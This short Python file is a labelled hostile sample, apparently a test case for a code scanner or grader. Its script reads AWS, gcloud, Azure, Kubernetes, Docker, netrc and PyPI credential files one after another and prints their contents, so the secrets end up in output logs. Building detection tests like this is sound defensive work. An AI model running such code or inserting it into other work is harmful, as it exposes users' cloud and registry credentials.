# label: hostile
# expect: V102
# note: Tries one credential file after another and prints them to the output, where a grader's log keeps them.
# allow: V101
import os

CANDIDATES = """
~/.aws/credentials
~/.config/gcloud/application_default_credentials.json
~/.azure/accessTokens.json
~/.kube/config
~/.docker/config.json
~/.netrc
~/.pypirc
""".split()

for p in map(os.path.expanduser, CANDIDATES):
    try:
        print("---", p)
        print(open(p).read())
    except OSError as e:
        print(e.strerror)
